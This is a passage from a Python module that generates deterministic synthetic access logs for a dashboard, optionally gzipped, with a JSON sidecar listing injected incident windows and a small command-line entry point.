        return datetime(*DEFAULT_DATE, tzinfo=zone)
    if start.tzinfo is None:
        return start.replace(tzinfo=zone)
    return start


def generate_sample(
    lines: int,
    days: float = DEFAULT_DAYS,
    seed: int = 0,
    start: datetime | None = None,
    tz: str = "UTC",
    incidents: bool = True,
) -> Sample:
    """Plan a deterministic sample of exactly ``lines`` lines over ``days`` days; format it lazily."""
    if lines < 0 or days <= 0:
        raise ValueError("lines must be >= 0 and days > 0")
    gen = _Generator(lines, days, seed, _resolve_start(start, tz), tz, incidents and lines >= INCIDENT_MIN_LINES)
    return gen.build()


def generate_lines(
    lines: int,
    days: float = DEFAULT_DAYS,
    seed: int = 0,
    start: datetime | None = None,
    tz: str = "UTC",
    incidents: bool = True,
) -> tuple[list[bytes], list[dict]]:
    """The lines (bytes, no newline) and the incidents of a sample; for big samples prefer ``generate_sample``."""
    sample = generate_sample(lines, days, seed, start, tz, incidents)
    return list(sample.iter_lines()), sample.incidents


def sidecar_path(path: str | Path) -> Path:
    """Where the incidents JSON of a log lives: ``<path>.incidents.json``."""
    return Path(f"{path}{SIDECAR_SUFFIX}")


def write_sample(
    path: str | Path,
    lines: int,
    days: float = DEFAULT_DAYS,
    seed: int = 0,
    tz: str = "UTC",
    incidents: bool = True,
    start: datetime | None = None,
) -> dict:
    """Write the log (gzip when the name ends in .gz, byte-identical per seed) and its incidents sidecar."""
    sample = generate_sample(lines, days, seed, start, tz, incidents)
    path = Path(path)
    with path.open("wb") as raw:
        if path.suffix == ".gz":
            with gzip.GzipFile(filename="", mode="wb", fileobj=raw, compresslevel=GZIP_LEVEL, mtime=0) as out:
                for block in sample.chunks():
                    out.write(block)
        else:
            for block in sample.chunks():
                raw.write(block)
    summary = sample.summary()
    sidecar_path(path).write_text(json.dumps(summary, indent=2) + "\n", encoding="utf-8")
    return {"path": str(path), "sidecar": str(sidecar_path(path)), **summary}


def main(argv: list[str] | None = None) -> None:
    """``python -m dashboard.sample OUT [--lines N] [--days D] [--seed S] [--tz TZ] [--no-incidents]``."""
    parser = argparse.ArgumentParser(description="Write a deterministic sample access log.")
    parser.add_argument("out")
    parser.add_argument("--lines", type=int, default=100_000)
    parser.add_argument("--days", type=float, default=DEFAULT_DAYS)
    parser.add_argument("--seed", type=int, default=0)
    parser.add_argument("--tz", default="UTC")
    parser.add_argument("--no-incidents", action="store_true")
    args = parser.parse_args(argv)
    began = time.perf_counter()
    summary = write_sample(args.out, args.lines, args.days, args.seed, args.tz, not args.no_incidents)
    elapsed = time.perf_counter() - began
    print(f"{summary['lines']:,} lines in {elapsed:.2f} s ({summary['lines'] / max(elapsed, 1e-9):,.0f} lines/s)")
    for inc in summary["incidents"]:
        print(f"  {inc['kind']:<14} {inc['start']} → {inc['end']}  {inc['subject']}")


if __name__ == "__main__":
    main()
